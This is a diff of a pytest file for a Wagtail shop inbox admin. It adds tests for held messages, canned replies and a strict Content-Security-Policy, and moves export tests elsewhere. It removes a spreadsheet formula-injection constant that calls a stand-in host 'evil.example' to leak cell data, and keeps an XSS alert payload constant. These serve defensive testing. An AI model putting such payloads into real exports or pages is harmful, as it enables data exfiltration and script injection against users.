@@ -1,11 +1,10 @@
 """Shop staff work through the inbox in the Wagtail admin: find, read, answer, sort and export."""
 
-import csv
 import datetime as dt
-import io
+import json
+import re
 from pathlib import Path
 
-import openpyxl
 import pytest
 from bs4 import BeautifulSoup
 from django.db import connection
@@ -13,18 +12,18 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
 from wagtail.admin.admin_url_finder import AdminURLFinder
-from wagtail.admin.views.mixins import SpreadsheetExportMixin
 
 from contactkit.inbox.models import (
+    Attachment,
     CannedReply,
     Conversation,
     EmailDelivery,
+    InboxSettings,
     Message,
     Source,
     Status,
     Topic,
 )
-from contactkit.inbox.views import neutralise_formula
 from tests.inbox.builders import (
     attach,
     conversation,
@@ -35,7 +34,6 @@ from tests.inbox.builders import (
 from tests.profile.builders import profile_for
 
 SCRIPT = "<script>alert('x')</script>"
-FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
 
 @pytest.fixture(autouse=True)
@@ -175,6 +173,38 @@ def test_the_listing_does_not_query_more_for_more_conversations(
         assert len(references(admin_client.get(inbox()))) == 20
 
 
+def test_the_listing_previews_the_first_words_of_each_message(admin_client, site):
+    long = conversation(
+        site,
+        message="Hola,\nla taza grande que compré ayer llegó rota por el asa y quisiera "
+        "saber si me podéis enviar otra igual o devolverme el dinero. Gracias.",
+    )
+    Message.objects.create(conversation=long, kind=Message.Kind.REPLY, body="Respuesta")
+    short = conversation(site, name="Luis", message="¿Tenéis tazas azules?")
+
+    html = BeautifulSoup(admin_client.get(inbox()).content, "html.parser")
+
+    def preview(made):
+        title = html.find(id=f"conversation_{made.pk}_title")
+        return title.find_parent("tr").select_one("td.ck-preview").get_text(" ", strip=True)
+
+    assert preview(long) == "Hola, la taza grande que compré ayer llegó rota por el asa…"
+    assert preview(short) == "¿Tenéis tazas azules?"
+
+
+def test_the_source_filter_offers_only_the_sources_in_use(admin_client, site):
+    conversation(site, source=Source.FORM)
+    conversation(site, source=Source.WITHDRAWAL)
+    conversation(site, status=Status.SPAM, source=Source.WIDGET, spam_reason="honeypot")
+
+    def offered(folder):
+        html = BeautifulSoup(admin_client.get(inbox(folder)).content, "html.parser")
+        return [box["value"] for box in html.select("input[name=source]") if box["value"]]
+
+    assert offered("index") == ["form", "withdrawal"]
+    assert offered("spam") == ["widget"]
+
+
 # The spam folder
 
 
@@ -212,6 +242,107 @@ def test_a_conversation_in_spam_cannot_be_answered(admin_client, site):
     assert 'name="reply-body"' not in detail
     admin_client.post(inbox("reply", junk.pk), {"reply-body": "Hola", "reply-then": "waiting"})
     assert not junk.messages.filter(kind=Message.Kind.REPLY).exists()
+
+
+# Held for review
+
+
+def test_held_messages_have_their_folder_and_are_counted_where_staff_look(admin_client, site):
+    new = conversation(site, name="Nueva")
+    held = conversation(site, name="Retenida", status=Status.HELD, spam_reason="rate_ip")
+
+    listing = admin_client.get(inbox())
+    assert references(listing) == [new.reference]
+    html = BeautifulSoup(listing.content, "html.parser")
+    banner = html.select_one(".help-block.help-warning")
+    assert "1 message is held for review." in banner.get_text(" ", strip=True)
+    assert banner.find("a", href=inbox("held"))
+    header = [a.get_text(" ", strip=True) for a in html.select("header a")]
+    assert "Spam (0)" in header and "Held for review (1)" in header
+    # The menu counts new conversations only.
+    assert "Inbox (1)" in page(admin_client.get(reverse("wagtailadmin_home")))
+
+    folder = admin_client.get(inbox("held"))
+    assert references(folder) == [held.reference]
+    assert "Held for review" in page(folder)
+    assert references(admin_client.get(inbox("held_results"), {"q": "Retenida"})) == [
+        held.reference
+    ]
+    footer = BeautifulSoup(folder.content, "html.parser").find(
+        attrs={"data-bulk-action-footer": True}
+    )
+    buttons = [a.get_text(strip=True) for a in footer.select("[data-bulk-action-button]")]
+    assert buttons == ["Release", "Mark as spam"]
+
+
+def test_no_banner_when_nothing_is_held(admin_client, site):
+    conversation(site)
+    html = BeautifulSoup(admin_client.get(inbox()).content, "html.parser")
+    assert not html.select(".help-block.help-warning")
+
+
+def test_a_held_message_is_released_from_its_page(admin_client, site):
+    inbox_settings = InboxSettings.for_site(site)
+    inbox_settings.notify_emails = "tienda@example.com"
+    inbox_settings.save()
+    held = conversation(site, status=Status.HELD, spam_reason="rate_ip")
+    attachment = attach(first_message(held))
+    Attachment.objects.filter(pk=attachment.pk).update(quarantined=True)
+
+    html = BeautifulSoup(admin_client.get(inbox("detail", held.pk)).content, "html.parser")
+    assert "This conversation is held for review" in html.get_text()
+    release = html.find("form", action=inbox("release", held.pk))
+    assert release.find("button").get_text(strip=True) == "Release: it is a real message"
+    assert not html.find("textarea", attrs={"name": "reply-body"})
+
+    response = admin_client.post(inbox("release", held.pk))
+
+    assert response.status_code == 302
+    held.refresh_from_db()
+    assert (held.status, held.spam_reason) == (Status.NEW, "")
+    assert sorted(EmailDelivery.objects.values_list("kind", flat=True)) == [
+        EmailDelivery.Kind.CONFIRMATION,
+        EmailDelivery.Kind.NOTIFICATION,
+    ]
+    attachment.refresh_from_db()
+    assert not attachment.quarantined
+    assert references(admin_client.get(inbox())) == [held.reference]
+
+
+def test_several_held_messages_are_released_at_once(admin_client, site):
+    held = [conversation(site, status=Status.HELD, spam_reason="rate_email") for _ in range(2)]
+    ids = "&".join(f"id={c.pk}" for c in held)
+    url = reverse("wagtail_bulk_action", args=["contactkit", "conversation", "release"])
+
+    assert all(c.reference in page(admin_client.get(f"{url}?{ids}")) for c in held)
+    admin_client.post(f"{url}?{ids}")
+
+    assert set(Conversation.objects.values_list("status", flat=True)) == {Status.NEW}
+    assert EmailDelivery.objects.filter(kind=EmailDelivery.Kind.CONFIRMATION).count() == 2
+
+
+def test_a_held_message_is_answered_or_changed_only_once_released(admin_client, site):
+    held = conversation(site, status=Status.HELD, spam_reason="rate_ip")
+    admin_client.post(inbox("reply", held.pk), {"reply-body": "Hola", "reply-then": "waiting"})
+    admin_client.post(
+        inbox("handle", held.pk), {"handling-status": "closed", "handling-assignee": ""}
+    )
+    admin_client.post(bulk("close", held))
+    held.refresh_from_db()
+    assert held.status == Status.HELD
+    assert not held.messages.filter(kind=Message.Kind.REPLY).exists()
+    assert not EmailDelivery.objects.exists()
+
+
+def test_view_only_staff_cannot_release(client, site):
+    held = conversation(site, status=Status.HELD, spam_reason="rate_ip")
+    client.force_login(staff_user("view_conversation"))
+    assert "Release: it is a real message" not in page(client.get(inbox("detail", held.pk)))
+    assert refused(client.post(inbox("release", held.pk)))
+    url = reverse("wagtail_bulk_action", args=["contactkit", "conversation", "release"])
+    assert refused(client.post(f"{url}?id={held.pk}"))
+    held.refresh_from_db()
+    assert held.status == Status.HELD
 
 
 # A conversation
@@ -326,15 +457,105 @@ def test_a_canned_reply_fills_in_the_shoppers_name_reference_and_shop(admin_clie
         title="Enviado", body="Hola {name}: tu consulta {reference} está resuelta. {shop}"
     )
 
-    html = BeautifulSoup(
-        admin_client.get(inbox("detail", made.pk), {"canned": canned.pk}).content, "html.parser"
+    html = BeautifulSoup(admin_client.get(inbox("detail", made.pk)).content, "html.parser")
+
+    # The texts "Use this text" inserts at the cursor, filled in, for the page's script.
+    form = html.find("form", attrs={"data-ck-canned-texts": True})
+    data = html.find("script", id=form["data-ck-canned-texts"])
+    assert data["type"] == "application/json"
+    assert json.loads(data.string) == {
+        str(canned.pk): f"Hola Ana: tu consulta {made.reference} está resuelta. Cerámica Alba"
+    }
+    assert form.find("select", attrs={"name": "canned"})
+    assert form.find("textarea", attrs={"name": "reply-body"})
+    assert html.find("script", src=re.compile(r"contactkit/admin/inbox\.js"))
+
+
+def test_use_this_text_without_javascript_keeps_the_draft_and_sends_nothing(admin_client, site):
+    """Behaviour changed on purpose: "Use this text" used to reload the page with a GET,
+    losing what was typed; now the draft travels with the form and the text is added after it.
+    """
+    profile_for(site, trade_name="Cerámica Alba")
+    made = conversation(site, name="Ana")
+    canned = CannedReply.objects.create(title="Enviado", body="Tu pedido {reference} ha salido.")
+
+    response = admin_client.post(
+        inbox("reply", made.pk),
+        {
+            "canned": canned.pk,
+            "use_canned": "1",
+            "reply-body": "Hola Ana, perdona el retraso.",
+            "reply-then": "closed",
+        },
     )
 
+    html = BeautifulSoup(page(response), "html.parser")
     textarea = html.find("textarea", attrs={"name": "reply-body"})
     assert textarea.get_text().strip() == (
-        f"Hola Ana: tu consulta {made.reference} está resuelta. Cerámica Alba"
+        f"Hola Ana, perdona el retraso.\n\nTu pedido {made.reference} ha salido."
     )
-    assert html.find("select", attrs={"name": "canned"}).find("option", selected=True)
+    assert html.find("select", attrs={"name": "canned"}).find("option", selected=True)[
+        "value"
+    ] == str(canned.pk)
+    then = html.find("select", attrs={"name": "reply-then"}).find("option", selected=True)
+    assert then["value"] == "closed"
+    assert not made.messages.filter(kind=Message.Kind.REPLY).exists()
+    assert not EmailDelivery.objects.filter(conversation=made).exists()
+
+    # An empty draft simply becomes the canned text; no choice keeps the draft as it was.
+    response = admin_client.post(
+        inbox("reply", made.pk), {"canned": canned.pk, "use_canned": "1", "reply-body": ""}
+    )
+    assert f"Tu pedido {made.reference} ha salido." in page(response)
+    response = admin_client.post(
+        inbox("reply", made.pk), {"canned": "", "use_canned": "1", "reply-body": "Borrador"}
+    )
+    html = BeautifulSoup(page(response), "html.parser")
+    assert html.find("textarea", attrs={"name": "reply-body"}).get_text().strip() == "Borrador"
+    assert "Choose a canned reply first." in html.get_text()
+
+
+def test_canned_replies_in_the_shoppers_language_come_first(admin_client, site):
+    made = conversation(site, language="en")
+    for title, language in [
+        ("Gracias", "es"),
+        ("Thanks", "en"),
+        ("Address check", ""),
+        ("Adiós", "es"),
+        ("Bye", "en"),
+    ]:
+        CannedReply.objects.create(title=title, body=title, language=language)
+
+    html = BeautifulSoup(admin_client.get(inbox("detail", made.pk)).content, "html.parser")
+
+    select = html.find("select", attrs={"name": "canned"})
+    groups = [
+        (group["label"], [option.get_text(strip=True) for option in group.find_all("option")])
+        for group in select.find_all("optgroup")
+    ]
+    assert groups == [
+        ("English", ["Bye", "Thanks"]),
+        ("Any language", ["Address check"]),
+        ("Spanish", ["Adiós", "Gracias"]),
+    ]
+
+
+def test_the_same_shoppers_other_conversations_are_linked(admin_client, site):
+    made = conversation(site, email="ana@example.com")
+    earlier = conversation(site, email="Ana@Example.COM", days_ago=30, status=Status.CLOSED)
+    junk = conversation(site, email="ana@example.com", status=Status.SPAM, spam_reason="honeypot")
+    stranger = conversation(site, email="luis@example.com")
+
+    html = BeautifulSoup(admin_client.get(inbox("detail", made.pk)).content, "html.parser")
+
+    panel = html.find(id="others-section")
+    links = [a["href"] for a in panel.find_all("a") if "/inbox/" in a["href"]]
+    assert inbox("detail", earlier.pk) in links and inbox("detail", junk.pk) in links
+    assert inbox("detail", made.pk) not in links
+    assert inbox("detail", stranger.pk) not in links
+    assert "Closed" in panel.get_text() and "Spam" in panel.get_text()
+    lonely = BeautifulSoup(admin_client.get(inbox("detail", stranger.pk)).content, "html.parser")
+    assert not lonely.find(id="others-section")
 
 
 def test_canned_replies_are_managed_as_snippets(admin_client, site):
@@ -393,70 +614,76 @@ def test_the_listing_offers_the_bulk_actions(admin_client, site):
     assert html.select("input[data-bulk-action-checkbox]")
 
 
-# Exports
+# Exports: tests/inbox/test_exports.py
 
 
-def export(client, fmt, **params):
-    response = client.get(inbox(), {"export": fmt, **params})
-    assert response.status_code == 200
-    return response, b"".join(response.streaming_content)
+# A strict Content-Security-Policy
 
 
-def test_csv_export_has_the_rows_and_neutralises_formulas(admin_client, site):
-    made = conversation(site, name=FORMULA, message="-1+1 y @SUMA", phone="+34600111222")
-    conversation(site, name="Robot", status=Status.SPAM, spam_reason="honeypot")
-
-    response, content = export(admin_client, "csv")
-
-    assert response["Content-Disposition"].startswith('attachment; filename="inbox-')
-    rows = list(csv.DictReader(io.StringIO(content.decode())))
-    assert [row["Reference"] for row in rows] == [made.reference]
-    row = rows[0]
-    assert row["Name"] == "'" + FORMULA
-    assert row["Message"] == "'-1+1 y @SUMA"
-    assert row["Phone"] == "'+34600111222"
-    assert row["Status"] == "New" and row["Topic"] == "Order status"
-    assert row["Email"] == "ana@example.com"
+def inline_styles_and_scripts(html):
+    """What a strict CSP would block: <style>, style="", and scripts written in the page
+    (JSON data in a <script type="application/json"> is data, not code)."""
+    soup = BeautifulSoup(html, "html.parser")
+    blocked = [str(tag)[:120] for tag in soup.find_all("style")]
+    blocked += [str(tag)[:120] for tag in soup.find_all(style=True)]
+    blocked += [
+        str(tag)[:120]
+        for tag in soup.find_all("script")
+        if not tag.get("src") and tag.get("type") != "application/json"
+    ]
+    return blocked
 
 
-def test_xlsx_export_has_the_rows_and_neutralises_formulas(admin_client, site):
-    made = conversation(site, name=FORMULA)
+def test_every_inbox_page_works_under_a_strict_content_security_policy(admin_client, site):
+    made = conversation(site, order_number="PED-1", extra_fields={"Talla": "M"})
+    attach(first_message(made))
+    Message.objects.create(conversation=made, kind=Message.Kind.NOTE, body="Nota")
+    conversation(site, email=made.email, days_ago=3)
+    junk = conversation(site, status=Status.SPAM, spam_reason="honeypot")
+    held = conversation(site, status=Status.HELD, spam_reason="rate_ip")
+    CannedReply.objects.create(title="Hola", body="Hola {name}")
+    admin_client.post(inbox("note", made.pk), {"note-body": "Para el historial"})
 
-    response, content = export(admin_client, "xlsx")
+    responses = {
+        name: admin_client.get(url)
+        for name, url in {
+            "inbox": inbox(),
+            "inbox results": inbox("index_results"),
+            "filtered": f"{inbox()}?status=new&created_at_from=2020-01-01",
+            "spam": inbox("spam"),
+            "held": inbox("held"),
+            "conversation": inbox("detail", made.pk),
+            "spam conversation": inbox("detail", junk.pk),
+            "held conversation": inbox("detail", held.pk),
+            "history": inbox("history", made.pk),
+            "privacy": inbox("privacy"),
+            "bulk close": bulk("close", made),
+            "bulk assign": bulk("assign", made),
+            "bulk release": bulk("release", held),
+        }.items()
+    }
+    responses["erase confirmation"] = admin_client.post(
+        inbox("privacy"), {"email": made.email, "action": "erase"}
+    )
+    responses["canned reply without script"] = admin_client.post(
+        inbox("reply", made.pk), {"canned": "", "use_canned": "1", "reply-body": "Hola"}
+    )
+    responses["invalid reply"] = admin_client.post(
+        inbox("reply", made.pk), {"reply-body": "", "reply-then": "waiting"}
+    )
 
-    assert response["Content-Disposition"].startswith('attachment; filename="inbox-')
-    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
-    headings, *rows = [list(row) for row in sheet.iter_rows()]
-    names = [cell.value for cell in headings]
-    assert len(rows) == 1
-    cells = dict(zip(names, rows[0], strict=True))
-    assert cells["Reference"].value == made.reference
-    assert cells["Name"].value == "'" + FORMULA
-    assert cells["Name"].data_type == "s"
+    for name, response in responses.items():
+        assert inline_styles_and_scripts(page(response)) == [], name
+    styles = BeautifulSoup(page(responses["conversation"]), "html.parser")
+    assert styles.find("link", href=re.compile(r"contactkit/admin/inbox\.css"))
 
 
-def test_the_export_follows_the_filters(admin_client, site):
-    conversation(site, name="Abierta", status=Status.OPEN)
-    closed = conversation(site, name="Cerrada", status=Status.CLOSED)
-    _response, content = export(admin_client, "csv", status="closed")
-    rows = list(csv.DictReader(io.StringIO(content.decode())))
-    assert [row["Reference"] for row in rows] == [closed.reference]
-
-
-def test_wagtail_alone_leaves_csv_formulas_live():
-    """Why contactkit neutralises: Wagtail's CSV export writes a formula as it is (its XLSX
-    export only forces a leading "=" to text)."""
-    assert SpreadsheetExportMixin().preprocess_field_value("name", FORMULA, "csv") == FORMULA
-
-
-@pytest.mark.parametrize("value", ["=1+1", "+34 600", "-2", "@SUM(A1)", "\tx", "\rx"])
-def test_every_formula_start_is_neutralised(value):
-    assert neutralise_formula(value) == "'" + value
-
-
-@pytest.mark.parametrize("value", ["Ana", "ana@example.com", "", 3, None, " =1"])
-def test_other_values_are_left_alone(value):
-    assert neutralise_formula(value) == value
+def test_contactkits_admin_templates_have_no_inline_style_or_script():
+    folder = Path(__file__).parents[2] / "contactkit/templates/contactkit/admin"
+    for template in folder.glob("*.html"):
+        source = template.read_text()
+        assert "<style" not in source and "style=" not in source, template.name
+        assert re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", source) == [], template.name
 
 
 # Bad input
